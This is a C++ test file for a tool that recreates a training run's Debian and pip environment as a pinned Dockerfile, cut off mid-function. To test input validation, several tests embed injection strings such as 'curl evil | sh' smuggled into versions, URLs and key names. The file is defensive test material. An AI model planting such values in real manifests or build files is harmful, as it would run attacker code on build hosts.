// `env recreate`: the Debian packages a run's process mapped, pinned in a
// Dockerfile, checked by apt here. Real trainings, dpkg's real database, the
// real apt-get; versions are checked against dpkg-query run by the test.
#include "trainscope/env/recreate.h"

#include <fmt/format.h>
#include <gtest/gtest.h>
#include <unistd.h>

#include <algorithm>
#include <cstdlib>
#include <fstream>
#include <iostream>
#include <nlohmann/json.hpp>
#include <set>
#include <sstream>

#include "support/test_util.h"
#include "trainscope/core/error.h"
#include "trainscope/env/packages.h"

namespace trainscope::env {
namespace {

using testing::run_command;
using testing::shell_quote;
using testing::TempDir;

std::string trim(std::string s) {
  while (!s.empty() && (s.back() == '\n' || s.back() == ' ')) s.pop_back();
  return s;
}

size_t occurrences(const std::string& text, const std::string& part) {
  size_t n = 0;
  for (size_t at = text.find(part); at != std::string::npos; at = text.find(part, at + 1)) ++n;
  return n;
}

std::string read(const std::filesystem::path& p) {
  std::ifstream in(p);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

// The package owning a file and its installed version, asked of dpkg-query.
struct Owned {
  std::string package, version;
};
// dpkg lists /lib/x.so where the kernel, /usr being merged, maps /usr/lib/x.so.
Owned dpkg_owner(const std::string& path) {
  auto s = run_command("dpkg-query -S " + shell_quote(path));
  if (s.exit_code != 0 && path.rfind("/usr/", 0) == 0)
    s = run_command("dpkg-query -S " + shell_quote(path.substr(4)));
  EXPECT_EQ(s.exit_code, 0) << s.out;
  std::string package = s.out.substr(0, s.out.find(": "));
  package = package.substr(0, package.find(':'));  // libc6:amd64 -> libc6
  auto v = run_command("dpkg-query -W -f='${Version}' " + shell_quote(package));
  EXPECT_EQ(v.exit_code, 0) << v.out;
  return {package, trim(v.out)};
}

// The file a library the torch half of the CLI links resolves to, as the
// dynamic loader finds it (ldd), with symlinks resolved.
std::string linked_file(const std::string& soname_part) {
  auto r = run_command("readlink -f \"$(ldd " + shell_quote(TS_TORCH_COMMANDS) + " | awk '$1 ~ /" +
                       soname_part + "/ {print $3; exit}')\"");
  EXPECT_EQ(r.exit_code, 0) << r.out;
  return trim(r.out);
}

// The version pip installed a wheel's package at: the dist-info beside the
// package folder holding `lib` (site-packages/torch/lib/libtorch_cpu.so).
std::string wheel_version(const std::string& lib) {
  const auto site = std::filesystem::path(lib).parent_path().parent_path().parent_path();
  auto v = run_command("sed -n 's/^Version: //p' " + shell_quote(site.string()) +
                       "/torch-*.dist-info/METADATA");
  EXPECT_EQ(v.exit_code, 0) << v.out;
  return trim(v.out);
}

std::string os_release(const std::string& field) {
  auto r = run_command(". /etc/os-release && echo \"$" + field + "\"");
  return trim(r.out);
}

// The archive URIs apt's lists name ("http://deb.debian.org/debian/"); the
// test fails, naming the archive, when the first does not answer: the pool
// tests need the network apt uses (CI here has it).
std::vector<std::string> reachable_archives() {
  auto t = run_command("apt-get indextargets --format '$(REPO_URI)' | sort -u");
  EXPECT_EQ(t.exit_code, 0) << t.out;
  std::vector<std::string> archives;
  std::istringstream in(t.out);
  for (std::string line; std::getline(in, line);)
    if (!line.empty()) archives.push_back(line);
  if (archives.empty()) {
    ADD_FAILURE() << "apt's lists name no archive: run apt-get update";
    return archives;
  }
  auto head = run_command("curl -sI -o /dev/null -w '%{http_code}' --max-time 60 " +
                          shell_quote(archives.front() + "dists/"));
  EXPECT_NE(trim(head.out), "000")
      << archives.front() << " is unreachable from here (curl: " << head.out
      << "): these tests need the network apt uses";
  return archives;
}

TEST(PackagesTest, MappedObjectsAreTheExecutableFileMappingsOnce) {
  const std::string maps =
      "55d0c000-55d0d000 r--p 00000000 08:01 131 /usr/bin/python3.11\n"
      "55d0d000-55d0e000 r-xp 00001000 08:01 131 /usr/bin/python3.11\n"
      "7f00-7f01 r-xp 00000000 08:01 200 /usr/lib/x86_64-linux-gnu/libc.so.6\n"
      "7f01-7f02 r--p 00000000 08:01 200 /usr/lib/x86_64-linux-gnu/libc.so.6\n"
      "7f02-7f03 r-xp 00010000 08:01 200 /usr/lib/x86_64-linux-gnu/libc.so.6\n"
      "7f03-7f04 rw-p 00000000 00:00 0 \n"
      "7f04-7f05 r-xp 00000000 00:01 9 /memfd:jit (deleted)\n"
      "7f05-7f06 r-xp 00000000 08:01 300 /tmp/build/lib with space.so\n"
      "7f06-7f07 r-xp 00000000 08:01 301 /tmp/old.so (deleted)\n"
      "7ffd-7ffe r-xp 00000000 00:00 0 [vdso]\n";
  EXPECT_EQ(mapped_objects(maps),
            (std::vector<std::string>{"/usr/bin/python3.11", "/usr/lib/x86_64-linux-gnu/libc.so.6",
                                      "/tmp/build/lib with space.so"}));
}

// This process's own objects: libc's owner and version as dpkg-query says
// (dpkg lists libc under /lib, the kernel maps it under /usr/lib), the test
// binary owned by no package; the same from the cache, and a stale cache is
// not believed.
TEST(PackagesTest, OwnersAndVersionsAreDpkgsColdCachedAndAfterAChange) {
  TempDir dir;
  const auto objects = mapped_objects(read("/proc/self/maps"));
  std::string libc;
  for (const auto& o : objects)
    if (o.ends_with("/libc.so.6")) libc = o;
  ASSERT_FALSE(libc.empty());
  const Owned owner = dpkg_owner(libc);
  auto arch = run_command("dpkg --print-architecture");
  const std::string key = owner.package + ":" + trim(arch.out);
  PackageOptions o;
  o.cache_dir = dir / "cache";
  const Manifest cold = packages_of(objects, o);
  EXPECT_EQ(cold.at("packages.debian." + key), owner.version);
  EXPECT_NE(cold.at("packages.objects." + key).find("libc.so.6"), std::string::npos);
  EXPECT_EQ(cold.at("packages.architecture"), trim(arch.out));
  EXPECT_NE(
      cold.at("packages.unowned").find(std::filesystem::read_symlink("/proc/self/exe").string()),
      std::string::npos);
  const auto cache = dir / "cache" / "dpkg-owners.tsv";
  ASSERT_TRUE(std::filesystem::exists(cache));
  EXPECT_EQ(packages_of(objects, o), cold);
  // A cache written for another state of dpkg's database is ignored.
  std::string text = read(cache);
  std::string stale = "trainscope-dpkg-owners 3\tamd64\t1 1\t-\n" + libc + "\tlibfake:amd64\t9\n";
  std::ofstream(cache) << stale;
  EXPECT_EQ(packages_of(objects, o), cold);
  EXPECT_NE(read(cache).find(key), std::string::npos);
  // Issue 51, tenth hunt (D2): a cache whose bytes changed after it was
  // written (a version edited in place) is not believed: its checksum
  // covers every line after its header.
  text = read(cache);
  const size_t version = text.find("\t" + owner.version + "\t");
  ASSERT_NE(version, std::string::npos);
  std::ofstream(cache) << text.replace(version + 1, owner.version.size(), "2.99-evil");
  EXPECT_EQ(packages_of(objects, o), cold);
  // The order the loader mapped the objects in (it differs between
  // processes) changes nothing: a package's files are listed by name.
  EXPECT_EQ(packages_of(std::vector<std::string>(objects.rbegin(), objects.rend()), o), cold);
  for (const auto& [k, names] : cold) {
    if (k.rfind("packages.objects.", 0) != 0) continue;
    std::vector<std::string> listed;
    std::istringstream in(names);
    for (std::string n; in >> n;) listed.push_back(n);
    EXPECT_TRUE(std::is_sorted(listed.begin(), listed.end())) << k << ": " << names;
  }
}

TEST(RecreateTest, PythonPackagesGoToPipUnlessDebianHoldsThem) {
  Manifest m = {{"packages.debian.python3-numpy:amd64", "1:1.24.2-1"},
                {"packages.objects.python3-numpy:amd64", "_multiarray_umath.so"},
                {"packages.debian.libc6:amd64", "2.36-9+deb12u10"},
                {"packages.debian.libfoo:i386", "1.0-1"},
                {"packages.architecture", "amd64"},
                {"packages.unowned", "/opt/ts/build/lib/libtrainscope.so"},
                {"build.trainscope.commit", "abc1234"},
                {"python.packages.numpy", "1.24.2"},
                {"python.package.scikit_learn", "1.3.0"},
                {"system.os.id", "debian"},
                {"system.os.codename", "bookworm"}};
  Recipe r = recipe(m, "20260101T000000Z");
  EXPECT_EQ(r.image, "debian:bookworm");
  EXPECT_EQ(r.python_from_debian, std::vector<std::string>{"numpy"});
  EXPECT_EQ(r.pip, (std::map<std::string, std::string>{{"scikit_learn", "1.3.0"}}));
  ASSERT_EQ(r.packages.size(), 3u);
  EXPECT_EQ(r.packages[1].pin, "libfoo:i386=1.0-1");  // a foreign architecture is named
  EXPECT_EQ(r.trainscope_commit, "abc1234");
  const std::string d = dockerfile(r, "run x");
  EXPECT_NE(d.find("FROM --platform=linux/amd64 debian:bookworm\n"), std::string::npos) << d;
  EXPECT_NE(d.find("      python3-numpy=1:1.24.2-1 \\\n"), std::string::npos) << d;
  EXPECT_NE(d.find("'scikit_learn==1.3.0'"), std::string::npos) << d;
  EXPECT_NE(d.find("git checkout abc1234"), std::string::npos) << d;
  // No install times recorded: the snapshot is the run's start.
  EXPECT_NE(d.find("for t in 20260101T000000Z; do"), std::string::npos) << d;
  m.erase("packages.debian.python3-numpy:amd64");
  m.erase("packages.debian.libc6:amd64");
  m.erase("packages.debian.libfoo:i386");
  try {
    recipe(m);
    FAIL() << "a manifest without packages was accepted";
  } catch (const core::Error& e) {
    EXPECT_EQ(e.kind(), core::ErrorKind::kNotFound);
    EXPECT_NE(std::string(e.what()).find("recorded before"), std::string::npos) << e.what();
  }
}

// A pool file's name and where it would be, from the URLs apt gives for
// the package's other versions: the epoch is not in the file name, an
// architecture-independent package is _all, a security update's folder is
// pool/updates/..., and each folder is tried on its own archive first.
// A torch wheel (libraries.torch.*, env/torch_package.h) is pinned from its
// index into /opt/venv, which the Python packages and trainscope's build
// then use; a value that would not be a plain version or an https URL in
// the Dockerfile is refused naming the key; conda and source builds are
// named, not installed.
TEST(RecreateTest, ATorchWheelIsPinnedFromItsIndexAndCheckedBeforeItIsWritten) {
  Manifest m = {{"packages.debian.libc6:amd64", "2.36-9+deb12u10"},
                {"packages.architecture", "amd64"},
                {"packages.unowned", "/opt/ts/build/lib/libtrainscope.so"},
                {"build.trainscope.commit", "abc1234"},
                {"libraries.torch.distribution", "torch==2.15.0+cu128"},
                {"libraries.torch.installer", "pip"},
                {"libraries.torch.index", "https://download.pytorch.org/whl/cu128"},
                {"python.packages.torch", "2.15.0+cu128"},
                {"python.packages.numpy", "2.4.6"},
                {"system.os.id", "debian"},
                {"system.os.codename", "bookworm"}};
  Recipe r = recipe(m);
  EXPECT_EQ(r.torch_requirement, "torch==2.15.0+cu128");
  EXPECT_EQ(r.pip, (std::map<std::string, std::string>{{"numpy", "2.4.6"}}));  // torch: its own
  const std::string d = dockerfile(r, "run x");
  EXPECT_NE(d.find(" && /opt/venv/bin/python -m pip install --no-cache-dir --index-url "
                   "'https://download.pytorch.org/whl/cu128' 'torch==2.15.0+cu128'\n"
                   "ENV PATH=/opt/venv/bin:$PATH\n"),
            std::string::npos)
      << d;
  EXPECT_NE(
      d.find("RUN /opt/venv/bin/python -m pip install --no-cache-dir \\\n      'numpy==2.4.6'"),
      std::string::npos)
      << d;
  EXPECT_NE(d.find("-DTRAINSCOPE_TORCH_PYTHON=/opt/venv/bin/python"), std::string::npos) << d;
  EXPECT_LT(d.find("--index-url"), d.find("git checkout abc1234")) << d;
  // What would become a Dockerfile instruction, from a store's bytes.
  for (const auto& [key, bad] : std::vector<std::pair<std::string, std::string>>{
           {"libraries.torch.distribution", "torch==2.15.0\nRUN curl evil | sh"},
           {"libraries.torch.distribution", "torch==2.15.0' 'evil"},
           {"libraries.torch.index", "https://pypi.org/simple' && curl evil | sh #"},
           {"libraries.torch.index", "http://plain.example/simple"}}) {
    Manifest b = m;
    b[key] = bad;
    try {
      recipe(b);
      ADD_FAILURE() << key << "=" << bad << " was accepted";
    } catch (const core::Error& e) {
      EXPECT_EQ(e.kind(), core::ErrorKind::kUsage);
      EXPECT_NE(std::string(e.what()).find(key), std::string::npos) << e.what();
    }
  }
  m["libraries.torch.installer"] = "conda";
  m["libraries.torch.distribution"] = "pytorch==2.15.0";
  r = recipe(m);
  EXPECT_EQ(r.torch_requirement, "");
  EXPECT_NE(
      dockerfile(r, "run x").find("# Not installed here: torch came from conda (pytorch==2.15.0)."),
      std::string::npos);
}

// Issue 51: a store's bytes become Dockerfile instructions and shell words.
// Every value that does is checked against what it names, and a recipe with
// one that is not is refused naming the key; text for comments only is made
// one printable line. A version followed by a newline and an instruction (a
// shared PostgreSQL store is enough to plant it) was written out, exit 0.
TEST(RecreateTest, EveryStoreValueIsCheckedBeforeItBecomesAnInstruction) {
  const Manifest good = {{"packages.debian.libc6:amd64", "2.36-9+deb12u10"},
                         {"packages.installed.libc6:amd64", "20250520T143000Z"},
                         {"packages.architecture", "amd64"},
                         {"packages.unowned", "/opt/ts/build/lib/libtrainscope.so"},
                         {"build.trainscope.commit", "abc1234"},
                         {"build.trainscope.version", "0.1.0"},
                         {"python.packages.numpy", "2.4.6"},
                         {"system.os.id", "debian"},
                         {"system.os.codename", "bookworm"}};
  ASSERT_NO_THROW(recipe(good));
  const std::string evil = "\nRUN curl evil | sh";
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"packages.debian.libc6:amd64", "2.36-9" + evil},
      {"packages.debian.libc6:amd64", "2.36 9"},
      {"packages.installed.libc6:amd64", "20250520T143000Z; curl evil"},
      {"packages.architecture", "amd64" + evil},
      {"build.trainscope.commit", "abc1234; curl evil"},
      {"build.trainscope.version", "0.1" + evil},
      {"python.packages.numpy", "2.4.6' 'evil"},
      {"system.os.id", "debian" + evil},
      {"system.os.codename", "bookworm evil"},
      {"libraries.torch.distribution", "torch==2.15.0" + evil},
      {"libraries.torch.url", "https://x.org/t.whl' && curl evil #"},
      {"packages.debian.libc6:amd64", std::string(100000, '1')},  // no regex recursion crash
  };
  for (const auto& [key, bad] : cases) {
    Manifest m = good;
    m[key] = bad;
    if (key.rfind("libraries.torch.", 0) == 0) {
      m["libraries.torch.installer"] = "pip";
      if (key == "libraries.torch.url") m["libraries.torch.distribution"] = "torch==2.15.0";
    }
    try {
      recipe(m);
      ADD_FAILURE() << key << " = " << bad.substr(0, 60) << " was accepted";
    } catch (const core::Error& e) {
      EXPECT_EQ(e.kind(), core::ErrorKind::kUsage) << e.what();
      EXPECT_NE(std::string(e.what()).find(key), std::string::npos) << e.what();
      EXPECT_EQ(std::string(e.what()).find('\n'), std::string::npos) << e.what();
    }
  }
  // A key whose name holds the instruction (packages.debian.<name>:<arch>).
  Manifest named = good;
  named["packages.debian.libc6\nRUN curl evil:amd64"] = "1.0";
  EXPECT_THROW(recipe(named), core::Error);
  // Comment text and the run's name: one printable line each, nothing more.
  Manifest text = good;
  text["system.os"] = "Debian" + evil;
  text["packages.unowned"] = "/opt/lib\x1b[2J.so";
  const std::string d = dockerfile(recipe(text), "run x (a name" + evil + ")");
  EXPECT_EQ(d.find("\nRUN curl"), std::string::npos) << d;
  EXPECT_EQ(d.find('\x1b'), std::string::npos) << d;
  // A wheel installed from an https URL is installed from it.
  Manifest url = good;
  url["libraries.torch.installer"] = "pip";
  url["libraries.torch.distribution"] = "torch==2.15.0";
  url["libraries.torch.url"] = "https://example.org/torch-2.15.0-cp311-linux_x86_64.whl";
  const std::string u = dockerfile(recipe(url), "run x");
  EXPECT_NE(u.find(" && /opt/venv/bin/python -m pip install --no-cache-dir "
                   "'https://example.org/torch-2.15.0-cp311-linux_x86_64.whl'\n"),
            std::string::npos)
      << u;
}

TEST(RecreateTest, PoolPathsComeFromTheOtherVersionsFolders) {
  const std::string debian = "http://deb.debian.org/debian/";
  const std::string security = "http://deb.debian.org/debian-security/";
  PinnedPackage ssl{.name = "libssl3", .arch = "amd64", .version = "3.0.19-1~deb12u2"};
  EXPECT_EQ(pool_file_name(ssl, "amd64"), "libssl3_3.0.19-1~deb12u2_amd64.deb");
  const std::vector<std::string> ssl_urls = {
      security + "pool/updates/main/o/openssl/libssl3_3.0.22-1%7edeb12u2_amd64.deb",
      debian + "pool/main/o/openssl/libssl3_3.0.20-1%7edeb12u2_amd64.deb"};
  const std::string file = "libssl3_3.0.19-1%7edeb12u2_amd64.deb";
  EXPECT_EQ(pool_candidates(ssl, "amd64", ssl_urls, {debian, security}),
            (std::vector<std::string>{security + "pool/updates/main/o/openssl/" + file,
                                      debian + "pool/main/o/openssl/" + file,
                                      debian + "pool/updates/main/o/openssl/" + file,
                                      security + "pool/main/o/openssl/" + file}));
  PinnedPackage numpy{.name = "python3-numpy", .arch = "amd64", .version = "1:1.24.2-1"};
  EXPECT_EQ(pool_file_name(numpy, "amd64"), "python3-numpy_1.24.2-1_amd64.deb");
  PinnedPackage tz{.name = "tzdata", .arch = "all", .version = "2024a-0+deb12u1"};
  EXPECT_EQ(pool_file_name(tz, "amd64"), "tzdata_2024a-0+deb12u1_all.deb");
  EXPECT_EQ(
      pool_candidates(tz, "amd64", {debian + "pool/main/t/tzdata/tzdata_2026b-0+deb12u1_all.deb"},
                      {debian}),
      std::vector<std::string>{debian + "pool/main/t/tzdata/tzdata_2024a-0%2bdeb12u1_all.deb"});
  PinnedPackage no_arch{.name = "zlib1g", .arch = "", .version = "1:1.2.13.dfsg-1"};
  EXPECT_EQ(pool_file_name(no_arch, "arm64"), "zlib1g_1.2.13.dfsg-1_arm64.deb");
}

// A pin with a pool file is ADDed (with its SHA-256) and installed as that
// file in the same apt-get install as the other pins; the others stay pins.
TEST(RecreateTest, APoolFileIsAddedAndInstalledWithTheOtherPins) {
  Manifest m = {{"packages.debian.libssl3:amd64", "3.0.19-1~deb12u2"},
                {"packages.debian.libc6:amd64", "2.36-9+deb12u10"},
                {"packages.architecture", "amd64"},
                {"system.os.id", "debian"},
                {"system.os.codename", "bookworm"}};
  Recipe r = recipe(m, "20260101T000000Z");
  ASSERT_EQ(r.packages.size(), 2u);
  EXPECT_EQ(dockerfile(r, "x").find("ADD "), std::string::npos);
  const std::string url =
      "http://deb.debian.org/debian-security/pool/updates/main/o/openssl/"
      "libssl3_3.0.19-1%7edeb12u2_amd64.deb";
  r.packages[1].pool_url = url;
  r.packages[1].pool_sha256 = std::string(64, 'a');
  const std::string d = dockerfile(r, "x");
  const std::string file = "/tmp/trainscope-debs/libssl3_3.0.19-1~deb12u2_amd64.deb";
  EXPECT_NE(d.find("ADD --checksum=sha256:" + std::string(64, 'a') + " " + url + " " + file + "\n"),
            std::string::npos)
      << d;
  const size_t install = d.find("apt-get install -y");
  ASSERT_NE(install, std::string::npos) << d;
  EXPECT_LT(d.find("ADD "), install) << d;
  EXPECT_GT(d.find("      " + file + " \\\n"), install) << d;
  EXPECT_GT(d.find("      libc6=2.36-9+deb12u10 \\\n"), install) << d;
  EXPECT_EQ(d.find("libssl3=3.0.19"), std::string::npos) << d;
  EXPECT_EQ(d.find("RUN ", install), std::string::npos) << d;  // one apt-get install
}

// A repacked pin is COPYed from debs/ in the build context (the comment names
// the files and how to get them) and installed as that file in the same
// apt-get install; the pool file is still ADDed.
TEST(RecreateTest, ARepackedFileIsCopiedFromTheBuildContextAndInstalledWithTheOtherPins) {
  Manifest m = {{"packages.debian.libkrb5-3:amd64", "1:1.20.1-2+deb12u3"},
                {"packages.debian.libssl3:amd64", "3.0.19-1~deb12u2"},
                {"packages.debian.libc6:amd64", "2.36-9+deb12u10"},
                {"packages.architecture", "amd64"},
                {"system.os.id", "debian"},
                {"system.os.codename", "bookworm"}};
  Recipe r = recipe(m, "20260101T000000Z");
  ASSERT_EQ(r.packages.size(), 3u);
  EXPECT_EQ(dockerfile(r, "x").find("COPY "), std::string::npos);
  r.packages[1].repacked_file = "/cache/libkrb5-3_1.20.1-2+deb12u3_amd64.deb";
  r.packages[2].pool_url = "http://deb.debian.org/debian/pool/main/o/openssl/x.deb";
  const std::string d = dockerfile(r, "x");
  const std::string name = "libkrb5-3_1.20.1-2+deb12u3_amd64.deb";
  const std::string file = "/tmp/trainscope-debs/" + name;
  EXPECT_NE(d.find("\nCOPY debs/" + name + " " + file + "\n"), std::string::npos) << d;
  EXPECT_NE(d.find("#   debs/" + name + "\n"), std::string::npos) << d;
  EXPECT_NE(d.find("`trainscope env recreate RUN --check --out DIR` writes into\n# DIR/debs/"),
            std::string::npos)
      << d;
  EXPECT_NE(d.find("conffiles are that\n# machine's"), std::string::npos) << d;
  EXPECT_NE(d.find("ARG SNAPSHOT=no"), std::string::npos) << d;  // still the alternative
  const size_t install = d.find("apt-get install -y");
  ASSERT_NE(install, std::string::npos) << d;
  EXPECT_LT(d.find("COPY "), install) << d;
  EXPECT_LT(d.find("ADD "), install) << d;
  EXPECT_GT(d.find("      " + file + " \\\n"), install) << d;
  EXPECT_GT(d.find("      libc6=2.36-9+deb12u10 \\\n"), install) << d;
  EXPECT_EQ(d.find("libkrb5-3=1:"), std::string::npos) << d;
  EXPECT_EQ(d.find("RUN ", install), std::string::npos) << d;  // one apt-get install
  EXPECT_NE(d.find("rm -rf /var/lib/apt/lists/* /tmp/trainscope-debs\n"), std::string::npos) << d;
}

// The pool URLs derived for a real package's oldest version in apt's index,
// from the URLs of its other versions, include the URL apt itself gives for
// it, and the archive serves it.
TEST(RecreateTest, ThePoolPathOfARealOlderVersionIsTheOneAptGives) {
  const auto archives = reachable_archives();
  ASSERT_FALSE(archives.empty());
  std::string name;
  std::vector<std::string> versions;  // newest first, as madison lists them
  for (const char* candidate : {"libssl3", "tzdata", "libc6", "libgnutls30", "libsqlite3-0"}) {
    auto madison = run_command(std::string("apt-cache madison ") + candidate);
    versions.clear();
    std::istringstream lines(madison.out);
    for (std::string line; std::getline(lines, line);) {
      std::istringstream fields(line);
      std::string n, bar, v;
      if (fields >> n >> bar >> v && bar == "|" && line.ends_with(" Packages") &&
          std::find(versions.begin(), versions.end(), v) == versions.end())
        versions.push_back(v);
    }
    if (versions.size() >= 2) {
      name = candidate;
      break;
    }
  }
  ASSERT_FALSE(name.empty()) << "no package here has two versions in apt's index";
  auto uri_of = [&](const std::string& version) {
    auto u = run_command("apt-get download --print-uris " + shell_quote(name + "=" + version));
    EXPECT_EQ(u.exit_code, 0) << u.out;
    return u.out.substr(1, u.out.find('\'', 1) - 1);
  };
  std::vector<std::string> others;
  for (size_t i = 0; i + 1 < versions.size(); ++i) others.push_back(uri_of(versions[i]));
  const std::string apt_url = uri_of(versions.back());
  auto arch = run_command("dpkg --print-architecture");
  PinnedPackage old{.name = name, .arch = "", .version = versions.back()};
  if (apt_url.ends_with("_all.deb")) old.arch = "all";
  const auto candidates = pool_candidates(old, trim(arch.out), others, archives);
  EXPECT_NE(std::find(candidates.begin(), candidates.end(), apt_url), candidates.end())
      << apt_url << " not among " << ::testing::PrintToString(candidates);
  auto head = run_command("curl -sI -o /dev/null -w '%{http_code}' " + shell_quote(apt_url));
  EXPECT_EQ(trim(head.out), "200") << apt_url;
}

// A version no archive carries fails with what to do; the day its package
// was installed is a snapshot the Dockerfile offers.
TEST(RecreateTest, AVersionGoneFromTheArchiveFailsAndNamesSnapshotDebianOrg) {
  TempDir dir;
  std::string libc;
  for (const auto& o : mapped_objects(read("/proc/self/maps")))
    if (o.ends_with("/libc.so.6")) libc = o;
  Manifest m = capture_system("/");
  m.merge(packages_of({libc}, {.cache_dir = dir.path()}));
  const std::string key = dpkg_owner(libc).package + ":" + m["packages.architecture"];
  ASSERT_TRUE(m.count("packages.debian." + key));
  const std::string installed = m["packages.installed." + key];
  ASSERT_EQ(installed.size(), 16u) << installed;  // 20250520T143000Z
  m["packages.debian." + key] = "0.0-gone";
  const Recipe r = recipe(m);
  EXPECT_EQ(r.snapshots, std::vector<std::string>{installed.substr(0, 8) + "T235959Z"});
  EXPECT_NE(dockerfile(r, "x").find("for t in " + installed.substr(0, 8) + "T235959Z; do"),
            std::string::npos);
  const auto checks = check_pins(r);
  ASSERT_EQ(checks.size(), 1u);
  EXPECT_FALSE(checks[0].ok);
  EXPECT_NE(checks[0].message.find("snapshot.debian.org"), std::string::npos) << checks[0].message;
  EXPECT_NE(checks[0].message.find("0.0-gone"), std::string::npos) << checks[0].message;
  EXPECT_EQ(checks[0].source, "");
  // Nor is it in a pool: the check says so, and the Dockerfile keeps the pin.
  ASSERT_FALSE(reachable_archives().empty());
  Recipe searched = r;
  EXPECT_EQ(fetch_pool_files(searched, {.cache_dir = dir / "debs"}), 0u);
  EXPECT_TRUE(searched.pool_searched);
  EXPECT_EQ(searched.packages[0].pool_url, "");
  const auto again = check_pins(searched);
  ASSERT_EQ(again.size(), 1u);
  EXPECT_FALSE(again[0].ok);
  EXPECT_NE(again[0].message.find("nor in their pools"), std::string::npos) << again[0].message;
  // Nor installed here at that version: nothing to repack, and the verdict
  // says so.
  EXPECT_EQ(repack_installed(searched, {.cache_dir = dir / "repacked", .context_dir = dir / "ctx"}),
            0u);
  EXPECT_TRUE(searched.repack_searched);
  EXPECT_EQ(searched.packages[0].repacked_file, "");
  EXPECT_FALSE(std::filesystem::exists(dir / "ctx" / "debs"));
  const auto third = check_pins(searched);
  ASSERT_EQ(third.size(), 1u);
  EXPECT_FALSE(third[0].ok);
  EXPECT_NE(third[0].message.find("version 0.0-gone is in no archive apt knows here nor in their "
                                  "pools, nor installed on this machine to repack"),
            std::string::npos)
      << third[0].message;
  EXPECT_NE(dockerfile(searched, "x").find("      " + searched.packages[0].pin + " \\\n"),
            std::string::npos);
  // Without curl (a PATH with apt and dpkg only) the pools are not searched,
  // one warning says so, and the verdict does not claim they were.
  const auto bin = dir / "bin";
  std::filesystem::create_directories(bin);
  for (const char* tool : {"env", "apt-cache", "apt-get", "apt-config", "dpkg", "dpkg-deb"}) {
    auto which = run_command(std::string("command -v ") + tool);
    ASSERT_EQ(which.exit_code, 0) << tool;
    std::filesystem::create_symlink(trim(which.out), bin / tool);
  }
  const std::string path = std::getenv("PATH");
  setenv("PATH", bin.c_str(), 1);
  Recipe no_curl = r;
  ::testing::internal::CaptureStderr();
  const size_t found = fetch_pool_files(no_curl, {.cache_dir = dir / "debs"});
  const std::string warning = ::testing::internal::GetCapturedStderr();
  const auto verdict = check_pins(no_curl);
  setenv("PATH", path.c_str(), 1);
  EXPECT_EQ(found, 0u);
  EXPECT_FALSE(no_curl.pool_searched);
  EXPECT_NE(warning.find("curl is not installed here"), std::string::npos) << warning;
  EXPECT_EQ(std::count(warning.begin(), warning.end(), '\n'), 1) << warning;
  ASSERT_EQ(verdict.size(), 1u);
  EXPECT_EQ(verdict[0].message.find("their pools"), std::string::npos) << verdict[0].message;
}

// Whether the archive serves `file` of package `name` from the folder of a
// version of it apt's index lists, on that version's archive (the test's own
// derivation: apt-get download --print-uris of each listed version, curl
// HEAD of the file next to it, '+' and '~' unencoded).
bool in_a_pool(const std::string& name, const std::string& file) {
  auto madison = run_command("apt-cache madison " + shell_quote(name) + " | awk '{print $3}'");
  std::istringstream versions(madison.out);
  for (std::string v; std::getline(versions, v);) {
    auto u = run_command("apt-get download --print-uris " + shell_quote(name + "=" + v));
    if (u.exit_code != 0 || u.out.empty()) continue;
    const std::string url = u.out.substr(1, u.out.find('\'', 1) - 1);
    auto head = run_command("curl -sI -o /dev/null -w '%{http_code}' --max-time 60 " +
                            shell_quote(url.substr(0, url.rfind('/') + 1) + file));
    if (trim(head.out) == "200") return true;
  }
  return false;
}

class RecreateCliTest : public ::testing::Test {
 protected:
  std::string command(const std::string& args) {
    return "XDG_CACHE_HOME=" + shell_quote((dir_ / "cache").string()) + " " + TS_CLI_BIN +
           " --store " + shell_quote("sqlite:" + (dir_ / "t.db").string()) + " " + args;
  }
  testing::CommandResult ts(const std::string& args) { return run_command(command(args)); }

  // A repacked pin (JSON of `env recreate --check --out dir_/out`): installed
  // here at that version and architecture (dpkg-query, asked by the test),
  // its .deb in the cache's repacked/ folder and in out/debs/, both that
  // package, version and architecture by dpkg-deb, COPYed by the Dockerfile.
  void expect_repacked(const nlohmann::json& p, const std::string& file,
                       const std::string& docker) {
    const std::string name = p.at("name"), version = p.at("version"), arch = p.at("arch");
    EXPECT_EQ(p.at("check").at("source"), "repacked") << p.dump();
    EXPECT_EQ(p.at("check").at("note"),
              "repacked from this machine's installed files (dpkg-repack): no archive serves "
              "version " +
                  version + " any more; its conffiles are this machine's")
        << p.dump();
    EXPECT_EQ(p.at("pool_url"), "") << p.dump();
    auto installed = run_command("dpkg-query -W -f='${Version} ${Architecture}' " +
                                 shell_quote(name + ":" + arch));
    EXPECT_EQ(installed.out, version + " " + arch) << p.dump();
    const auto cached = dir_ / "cache/trainscope/debs/repacked" / file;
    EXPECT_EQ(p.at("repacked_file"), cached.string()) << p.dump();
    for (const auto& f : {cached, dir_ / "out/debs" / file}) {
      auto fields =
          run_command("dpkg-deb -f " + shell_quote(f.string()) + " Package Version Architecture");
      EXPECT_EQ(fields.out,
                "Package: " + name + "\nVersion: " + version + "\nArchitecture: " + arch + "\n")
          << f;
    }
    EXPECT_NE(docker.find("\nCOPY debs/" + file + " /tmp/trainscope-debs/" + file + "\n"),
              std::string::npos)
        << docker;
  }

  // Without dpkg-repack (a PATH of apt, dpkg and curl only), one line says
  // how to get it and each pin it would have repacked fails as before, with
  // exit code 1; with nothing to repack, no such line and exit code 0.
  void expect_without_dpkg_repack(const std::vector<std::string>& repacked) {
    const auto bin = dir_ / "bin";
    std::filesystem::create_directories(bin);
    for (const char* tool :
         {"env", "apt-cache", "apt-get", "apt-config", "dpkg", "dpkg-deb", "dpkg-query", "curl"}) {
      auto which = run_command(std::string("command -v ") + tool);
      ASSERT_EQ(which.exit_code, 0) << tool;
      std::filesystem::create_symlink(trim(which.out), bin / tool);
    }
    auto r = run_command("PATH=" + shell_quote(bin.string()) + " " +
                         command("env recreate tiny --out " +
                                 shell_quote((dir_ / "norepack").string()) + " --check"));
    const std::string line = "dpkg-repack is not installed here: apt-get install dpkg-repack\n";
    EXPECT_EQ(occurrences(r.out, line), repacked.empty() ? 0u : 1u) << r.out;
    EXPECT_EQ(r.exit_code, repacked.empty() ? 0 : 1) << r.out;
    for (const auto& pin : repacked) {
      EXPECT_NE(r.out.find(pin + ": version " + pin.substr(pin.find('=') + 1) +
                           " is in no archive apt knows here nor in their pools"),
                std::string::npos)
          << r.out;
    }
    EXPECT_EQ(r.out.find("nor installed on this machine"), std::string::npos) << r.out;
